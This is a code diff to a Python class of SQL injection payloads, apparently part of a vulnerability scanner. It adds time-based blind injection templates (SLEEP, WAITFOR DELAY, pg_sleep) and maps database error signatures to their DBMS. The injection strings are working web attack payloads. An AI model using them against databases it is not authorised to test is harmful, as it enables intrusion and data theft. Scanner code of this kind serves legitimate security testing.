@@ -92,6 +92,22 @@ class SQLPayloads:
         "' AND pg_sleep(5)--",
     ]
     
+    # Time-based templates with a {delay} placeholder (seconds), used by the
+    # adaptive time-based engine; {delay}=0 gives the matching control payload
+    TIME_BASED_TEMPLATES = [
+        "'; WAITFOR DELAY '0:0:{delay}'--",
+        "'; SELECT SLEEP({delay})--",
+        "' AND SLEEP({delay})--",
+        "1' AND SLEEP({delay})--",
+        "' AND (SELECT * FROM (SELECT(SLEEP({delay})))a)--",
+        "1; WAITFOR DELAY '0:0:{delay}'--",
+        "' OR SLEEP({delay})--",
+        "\" OR SLEEP({delay})--",
+        "' AND IF(1=1,SLEEP({delay}),0)--",
+        "'; SELECT pg_sleep({delay})--",
+        "' AND pg_sleep({delay})--",
+    ]
+    
     # SQL Injection for different databases
     MYSQL_SPECIFIC = [
         "' AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))--",
@@ -120,39 +136,39 @@ class SQLPayloads:
         "' || (SELECT banner FROM v$version WHERE rownum=1)--",
     ]
     
-    # Common SQL error signatures for detection
-    ERROR_SIGNATURES = [
-        "SQL syntax",
-        "mysql_fetch",
-        "mysql_num_rows",
-        "ORA-01",
-        "PostgreSQL",
-        "Warning: pg_",
-        "valid MySQL result",
-        "MySqlClient",
-        "SQLException",
-        "ODBC SQL Server Driver",
-        "Microsoft OLE DB Provider for SQL Server",
-        "Unclosed quotation mark",
-        "quoted string not properly terminated",
-        "SQLException",
-        "Syntax error",
-        "mysql_",
-        "mysqli_",
-        "pg_query",
-        "ORA-",
-        "DB2 SQL error",
-        "SQLite",
-        "SQLite3",
-        "JET Database Engine",
-        "Access Database Engine",
-        "Microsoft Access Driver",
-    ]
+    # Common SQL error signatures for detection, with the DBMS each belongs to (None = generic)
+    ERROR_SIGNATURE_DBMS = {
+        "SQL syntax": "MySQL",
+        "mysql_fetch": "MySQL",
+        "mysql_num_rows": "MySQL",
+        "ORA-01": "Oracle",
+        "PostgreSQL": "PostgreSQL",
+        "Warning: pg_": "PostgreSQL",
+        "valid MySQL result": "MySQL",
+        "MySqlClient": "MySQL",
+        "SQLException": None,
+        "ODBC SQL Server Driver": "Microsoft SQL Server",
+        "Microsoft OLE DB Provider for SQL Server": "Microsoft SQL Server",
+        "Unclosed quotation mark": "Microsoft SQL Server",
+        "quoted string not properly terminated": "Oracle",
+        "Syntax error": None,
+        "mysql_": "MySQL",
+        "mysqli_": "MySQL",
+        "pg_query": "PostgreSQL",
+        "ORA-": "Oracle",
+        "DB2 SQL error": "IBM DB2",
+        "SQLite": "SQLite",
+        "SQLite3": "SQLite",
+        "JET Database Engine": "Microsoft Access",
+        "Access Database Engine": "Microsoft Access",
+        "Microsoft Access Driver": "Microsoft Access",
+    }
+    ERROR_SIGNATURES = list(ERROR_SIGNATURE_DBMS)
     
     @classmethod
     def get_all_payloads(cls):
-        """Get all SQL injection payloads"""
-        return (
+        """Get all SQL injection payloads (de-duplicated, first occurrence kept)"""
+        return list(dict.fromkeys(
             cls.ERROR_BASED +
             cls.UNION_BASED +
             cls.BOOLEAN_BASED +
@@ -161,9 +177,9 @@ class SQLPayloads:
             cls.POSTGRESQL_SPECIFIC +
             cls.MSSQL_SPECIFIC +
             cls.ORACLE_SPECIFIC
-        )
+        ))
     
     @classmethod
     def get_basic_payloads(cls):
         """Get basic/common SQL injection payloads for quick scan"""
-        return cls.ERROR_BASED[:10] + cls.UNION_BASED[:5] + cls.BOOLEAN_BASED[:6]
+        return list(dict.fromkeys(cls.ERROR_BASED[:10] + cls.UNION_BASED[:5] + cls.BOOLEAN_BASED[:6]))